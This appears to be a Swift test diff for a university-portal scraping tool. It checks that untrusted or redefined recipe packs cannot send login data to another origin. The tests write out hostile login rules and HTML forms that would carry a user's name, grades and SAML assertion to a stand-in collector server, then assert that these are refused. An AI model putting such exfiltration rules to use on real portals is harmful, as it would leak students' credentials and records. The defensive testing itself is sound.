@@ -232,4 +232,119 @@ struct PackTrustServiceTests {
         #expect(text(terms).contains("terms of use"), "\(text(terms))")
         #expect(collector.connections == 0, "the collector saw \(collector.requests.map(\.path))")
     }
+
+    @Test("login rules that follow an address built from the page send nothing to another origin, trusted or not")
+    func loginRulesStayOnTheLoginsOrigins() async throws {
+        let packs = try Sandbox()
+        defer { packs.remove() }
+        let collector = try RecordingHTTPServer(host: "127.0.0.9") { _ in .status(200, body: "<p>thanks</p>") }
+        defer { collector.stop() }
+        let away = collector.baseURL.absoluteString
+        // A rule ahead of the demo's own: the trusted redefinition sends the user's name and her
+        // grades away from the grades page once the login is over; the untrusted pack's own
+        // portal sends the unused SAML assertion away.
+        let gradesRule = """
+              pages:
+                - name: grades
+                  when: "//table[@id='grades']"
+                  follow: "concat('\(away)/g?who=', string(//span[@class='account']), '&grades=', string(//table[@id='grades']))"
+                  after_login: true
+
+            """
+        let assertionRule = """
+              pages:
+                - name: assertion
+                  when: "//form[.//input[@name='SAMLResponse']]"
+                  follow: "concat('\(away)/a?r=', //input[@name='SAMLResponse']/@value)"
+
+            """
+        let bundled = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/portal.yaml"), encoding: .utf8)
+        let redefinition = bundled.replacingOccurrences(of: "  pages:\n", with: gradesRule)
+        #expect(redefinition != bundled)
+        try await DemoUniversity.withRunning { demo in
+            let origin = demo.baseURL.absoluteString.trimmingCharacters(in: CharacterSet(charactersIn: "/"))
+            let ownPortal = bundled.replacingOccurrences(of: "  pages:\n", with: assertionRule)
+                .replacingOccurrences(of: "portal: demo\n", with: "portal: mine\n")
+                .replacingOccurrences(of: "demo: true\n", with: "").replacingOccurrences(of: "http://127.0.0.1:0", with: origin)
+            let grades = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/grades.yaml"), encoding: .utf8)
+            let trustedPack = try packs.writePack(["demo/portal.yaml": redefinition])
+            let ownPack = try packs.writePack(["mine/portal.yaml": ownPortal, "mine/grades.yaml": grades])
+            let trusted = try DemoServiceBench(packs: [trustedPack], trust: try DemoServiceBench.trusting([trustedPack]))
+            defer { trusted.remove() }
+            let error = await #expect(throws: UniToolError.self) { _ = try await trusted.run("grades", on: demo) }
+            #expect(error?.kind == .unsafeRequest, "\(text(error))")
+            #expect(text(error).contains("refusing to follow login rule"), "\(text(error))")
+
+            let untrusted = try DemoServiceBench(packs: [ownPack])
+            defer { untrusted.remove() }
+            try untrusted.sandbox.acceptTerms(portal: "mine", version: DemoUniversity.initialTermsVersion)
+            let own = await #expect(throws: UniToolError.self) {
+                _ = try await untrusted.withService(for: try untrusted.catalog.portal("mine"), user: "alice", password: "wonderland") {
+                    service, _ in
+                    try await service.execute(
+                        try untrusted.request("grades", portal: "mine"), of: try untrusted.recipe("grades", portal: "mine"),
+                        interaction: Unattended())
+                }
+            }
+            #expect(own?.kind == .unsafeRequest, "\(text(own))")
+            #expect(text(own).contains("refusing to follow login rule"), "\(text(own))")
+        }
+        #expect(collector.connections == 0, "the collector saw \(collector.requests.map(\.path))")
+    }
+
+    @Test("a login form whose action another origin holds, or an auto-submitting one, sends nothing there")
+    func loginFormsStayOnTheLoginsOrigins() async throws {
+        let packs = try Sandbox()
+        defer { packs.remove() }
+        let collector = try RecordingHTTPServer(host: "127.0.0.9") { _ in .status(200, body: "<p>thanks</p>") }
+        defer { collector.stop() }
+        let away = collector.baseURL.absoluteString
+        // The portal's page carries forms that point away (as a page a pack's rule chooses may):
+        // one to fill in with the user's name, one that posts itself.
+        let server = try RecordingHTTPServer(host: "127.0.0.1") { request in
+            .status(
+                200,
+                body: """
+                    <html><body>
+                    <form id="login" method="post" action="\(away)/who"><input name="u"><button name="go">Go</button></form>
+                    <form id="auto" method="post" action="\(away)/auto"><input type="hidden" name="grades" value="A"></form>
+                    </body></html>
+                    """)
+        }
+        defer { server.stop() }
+        for (name, rule) in [
+            ("fill", #"{ name: form, when: "//form[@id='login']", fill: { u: "{{username}}" }, submit: ".//button[@name='go']" }"#),
+            ("auto", #"{ name: form, when: "//form[@id='auto']", auto_submit: true }"#),
+        ] {
+            let pack = try packs.writePack([
+                "away-\(name)/portal.yaml": """
+                portal: away-\(name)
+                name: Away
+                base_url: \(server.baseURL.absoluteString)
+                credentials_may_go_to: [portal]
+                login: { pages: [\(rule)] }
+
+                """,
+                "away-\(name)/page.yaml": """
+                command: page
+                summary: A page behind the login
+                fetch: /
+                rows: "//tr"
+                fields: { cell: { xpath: td } }
+                """,
+            ])
+            let bench = try DemoServiceBench(packs: [pack])
+            defer { bench.remove() }
+            let error = await #expect(throws: UniToolError.self, "\(name)") {
+                _ = try await bench.withService(for: try bench.catalog.portal("away-\(name)"), user: "alice") { service, _ in
+                    try await service.execute(
+                        try bench.request("page", portal: "away-\(name)"), of: try bench.recipe("page", portal: "away-\(name)"),
+                        interaction: Unattended())
+                }
+            }
+            #expect(error?.kind == .unsafeRequest, "\(name): \(text(error))")
+            #expect(text(error).contains("refusing to follow login rule 'form' to \(collector.baseURL.origin)"), "\(name): \(text(error))")
+        }
+        #expect(collector.connections == 0, "the collector saw \(collector.requests.map(\.path))")
+    }
 }
